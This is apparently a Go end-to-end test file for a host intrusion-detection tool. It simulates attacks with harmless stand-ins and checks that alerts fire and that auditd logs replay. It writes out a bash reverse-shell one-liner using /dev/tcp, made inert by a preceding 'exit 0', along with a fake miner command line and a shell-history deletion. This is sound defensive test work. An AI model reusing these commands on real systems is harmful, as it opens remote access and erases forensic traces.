package e2e_test

import (
	"bytes"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/holdfast-security/holdfast/event"
	"github.com/holdfast-security/holdfast/finding"
	"github.com/holdfast-security/holdfast/internal/hosttest"
)

// typeInto runs a shell that carries out commands as they are typed.
func typeInto(t *testing.T, shell string) (keyboard io.Writer, pid uint32) {
	t.Helper()
	cmd := exec.Command(hosttest.Program(t, shell))
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _, _ = in.Close(), cmd.Wait() })
	return in, uint32(cmd.Process.Pid)
}

// TestTypedAttack is what README promises: an attack typed in another terminal
// gives an alert within a second, and the alert explains itself. Beside watch
// runs events, with a filter.
func TestTypedAttack(t *testing.T) {
	hosttest.Root(t)
	p, dir := build(t), t.TempDir()
	miner, harmless := filepath.Join(dir, "xmrig"), filepath.Join(dir, "harmless")
	copyOfTrue(t, miner)
	copyOfTrue(t, harmless)
	shell, shellPID := typeInto(t, "bash")

	hosttest.LockAudit(t)
	w := watch(t, p)
	filtered := launch(t, exec.Command(p.holdfast, "events", "-o", "json",
		"--class", "process/launch", "--where", "Image|startswith="+dir, "--where", "CommandLine=*pool.invalid*"))
	filtered.awaitSight(t, harmless, "pool.invalid")

	typed := time.Now()
	if _, err := io.WriteString(shell, harmless+" other\n"+miner+" -o stratum+tcp://pool.invalid:3333\n"); err != nil {
		t.Fatal(err)
	}
	got := w.out.await(t, "the miner", holding("VM_DigitalCurrencyMining", dir))
	t.Logf("the alert came after %v", got.at.Sub(typed).Round(time.Millisecond)) // measured by the benchmarks
	var a finding.Alert
	if err := json.Unmarshal(got.text, &a); err != nil {
		t.Fatal(err)
	}
	checkExplained(t, a)
	checkLineage(t, a.Process, miner, shellPID)

	filtered.out.await(t, "the miner's start", holding(miner, "stratum"))
	filtered.stop(t, syscall.SIGTERM)
	w.stop(t, syscall.SIGTERM)
	for _, l := range filtered.out.all() {
		var e event.Event
		if err := json.Unmarshal(l.text, &e); err != nil {
			t.Errorf("%v in %.300s", err, l.text)
		} else if e.Class != event.ClassProcessActivity || !strings.HasPrefix(e.Process.Path(), dir) || !strings.Contains(e.Process.CommandLine, "pool.invalid") {
			t.Errorf("the filter let through %.300s", l.text)
		}
	}
}

// TestLineageBelowASetUserIDProgram runs what sudo is: a program that gives its
// user rights, and a program below it.
func TestLineageBelowASetUserIDProgram(t *testing.T) {
	hosttest.Root(t)
	p, dir := build(t), t.TempDir()
	if err := os.Chmod(filepath.Dir(dir), 0o755); err != nil {
		t.Fatal(err)
	}
	shell := filepath.Join(dir, "shell")
	text, err := os.ReadFile(hosttest.Program(t, "dash"))
	if err == nil {
		err = os.WriteFile(shell, text, 0o755)
	}
	if err == nil {
		err = os.Chmod(shell, 0o755|os.ModeSetuid)
	}
	if err != nil {
		t.Fatal(err)
	}

	hosttest.LockAudit(t)
	events := launch(t, exec.Command(p.holdfast, "events", "-o", "json", "--class", "process/launch", "--where", "CommandLine=*below-rights*"))
	events.awaitSight(t, hosttest.Program(t, "true"), "below-rights-sight")
	cmd := exec.Command(shell, "-p", "-c", "sleep 0.5; /bin/true below-rights-real; exit")
	cmd.Dir = "/"
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	got := events.out.await(t, "the program below", holding(`"args":["/bin/true","below-rights-real"]`))
	events.stop(t, syscall.SIGTERM)
	var e event.Event
	if err := json.Unmarshal(got.text, &e); err != nil {
		t.Fatal(err)
	}
	line := e.Process.Lineage()
	if len(line) < 3 || line[1].PID != uint32(cmd.Process.Pid) || line[1].Path() != shell || line[2].PID != uint32(os.Getpid()) {
		for _, p := range line {
			t.Errorf("its lineage: %d %s", p.PID, p.Path())
		}
	}
}

// checkExplained wants an alert that answers what, why and what now.
func checkExplained(t *testing.T, a finding.Alert) {
	t.Helper()
	for what, missing := range map[string]bool{
		"title": a.Title == "", "story": a.Story == "", "meaning": a.Meaning == "", "remediation": len(a.Steps) == 0,
		"matches": len(a.Matches) == 0, "evidence": len(a.Evidence) == 0, "tactics": len(a.Tactics) == 0, "rule": a.Rule.ID == "",
		"host": a.Host == "",
	} {
		if missing {
			t.Errorf("the alert has no %s", what)
		}
	}
	for _, m := range a.Matches {
		if m.Field == "" || m.Value == "" || m.Condition == "" || m.Event < 0 || m.Event >= len(a.Evidence) {
			t.Errorf("the match %+v does not say why", m)
		}
	}
}

// checkLineage wants the program below the shell below this test below more.
func checkLineage(t *testing.T, proc *event.Process, program string, shell uint32) {
	t.Helper()
	line := proc.Lineage()
	if len(line) < 4 {
		t.Fatalf("the lineage has %d processes, want the program, the shell, this test and its parents", len(line))
	}
	if line[0].Path() != program {
		t.Errorf("the actor is %q, want %q", line[0].Path(), program)
	}
	if line[1].PID != shell || line[1].Base() != "bash" {
		t.Errorf("its parent is %s (%d), want bash (%d)", line[1].Base(), line[1].PID, shell)
	}
	if line[2].PID != uint32(os.Getpid()) {
		t.Errorf("the shell's parent is %s (%d), want this test (%d)", line[2].Base(), line[2].PID, os.Getpid())
	}
}

// TestReplayOfAuditdsLog attacks while auditd records and watch looks: the
// recorded log must give the alerts that were given live.
func TestReplayOfAuditdsLog(t *testing.T) {
	hosttest.Root(t)
	p, dir := build(t), t.TempDir()
	miner, test := filepath.Join(dir, "xmrig"), filepath.Join(dir, "asc_alerttest_662jfi039n")
	copyOfTrue(t, miner)
	copyOfTrue(t, test)
	history := filepath.Join(dir, ".bash_history")
	if err := os.WriteFile(history, []byte("ls\n"), 0o600); err != nil {
		t.Fatal(err)
	}

	hosttest.LockAudit(t)
	log := startAuditd(t)
	w := watch(t, p)
	execute(t, miner)
	execute(t, test, "testing", "eicar", "pipe")
	execute(t, "rm", history)
	execute(t, "sh", "-c", "true "+dir+"; bash -c 'exit 0; exec bash -i >& /dev/tcp/127.0.0.1/9 0>&1'")
	w.out.await(t, "the last attack", holding("VM_ReverseShell"))
	w.stop(t, syscall.SIGINT)

	live := alerts(t, w.out.text(), dir)
	if len(types(live)) < 3 {
		t.Errorf("live there were only %v", types(live))
	}
	out, err := exec.Command(p.holdfast, "replay", "-o", "json", "--severity", "informational", log).Output()
	if err != nil {
		t.Fatalf("replay: %v", err)
	}
	if diff := cmp.Diff(types(live), types(alerts(t, out, dir))); diff != "" {
		t.Errorf("kinds of alerts (-live +replayed):\n%s", diff)
	}
	checkSummary(t, out)
}

// checkSummary wants the last line of a replay to account for the whole log.
func checkSummary(t *testing.T, out []byte) {
	t.Helper()
	lines := bytes.Split(bytes.TrimSpace(out), []byte("\n"))
	var summary struct {
		Files, Lines, Events, Skipped int
		Alerts                        map[string]int
	}
	if err := json.Unmarshal(lines[len(lines)-1], &summary); err != nil {
		t.Fatalf("%v in %.300s", err, lines[len(lines)-1])
	}
	if summary.Files != 1 || summary.Lines == 0 || summary.Events == 0 || summary.Skipped != 0 {
		t.Errorf("the summary is %+v", summary)
	}
	if summary.Alerts["VM_DigitalCurrencyMining"] == 0 {
		t.Errorf("the summary does not count the miner: %v", summary.Alerts)
	}
}
